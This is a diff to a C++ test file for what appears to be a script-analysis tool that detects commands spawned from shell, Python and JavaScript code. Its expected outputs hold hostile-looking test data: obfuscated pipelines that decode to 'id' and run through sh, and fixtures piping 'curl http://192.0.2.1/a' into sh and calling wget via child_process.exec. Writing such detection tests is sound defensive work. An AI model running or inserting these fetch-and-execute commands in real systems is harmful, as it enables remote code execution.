@@ -127,7 +127,7 @@ TEST(ScriptsTest, ShowsWhatSplitWordsRun) {
       {"echo vq | tr a-z n-za-m | sh",
        {"echo vq", "tr a-z n-za-m", "sh", "id"}},
       {"echo di | rev | sh", {"echo di", "rev", "sh", "id"}},
-      {"a=b c; eval \"$a\" d", {"c", "eval $a d"}},
+      {"a=b c; eval \"$a\" d", {"c", "eval $a d", "$a d"}},
       {"a='b c'; eval \"$a;d\"", {"eval b c;d", "b c", "d"}},
       {"sh -c \"sh -c 'eval a'\"",
        {"sh -c sh -c 'eval a'", "sh -c eval a", "eval a", "a"}},
@@ -215,16 +215,25 @@ TEST(ScriptsTest, FindsProcessesOfPythonAndJavascript) {
   const auto python = Examine(kScripts, "a.py", kPython);
   EXPECT_EQ(python.Lines(),
             (Strings{"script python",
+                     "call os.system does=process language=python line=3 "
+                     "arg1=curl http://192.0.2.1/a | sh",
                      "command curl http://192.0.2.1/a program=curl line=3 "
                      "pipe_to=sh within=os.system",
                      "command sh program=sh line=3 within=os.system",
-                     "command /bin/ls -l program=ls line=4"}));
+                     "call subprocess.run does=process language=python line=4",
+                     "command /bin/ls -l $name program=ls line=4",
+                     "call subprocess.run does=process language=python "
+                     "line=5"}));
   const auto javascript = Examine(kScripts, "a.js", kJavascript);
   EXPECT_EQ(javascript.Lines(),
             (Strings{"script javascript",
+                     "call child_process.exec does=process language=javascript "
+                     "line=2 arg1=wget http://192.0.2.1/b",
                      "command wget http://192.0.2.1/b program=wget line=2 "
-                     "within=exec",
-                     "command node bundle.js program=node line=4"}));
+                     "within=child_process.exec",
+                     "call child_process.spawn does=process "
+                     "language=javascript line=4 arg1=node",
+                     "command node bundle.js $arg program=node line=4"}));
 }
 
 TEST(ScriptsTest, NamesTheInterpreter) {
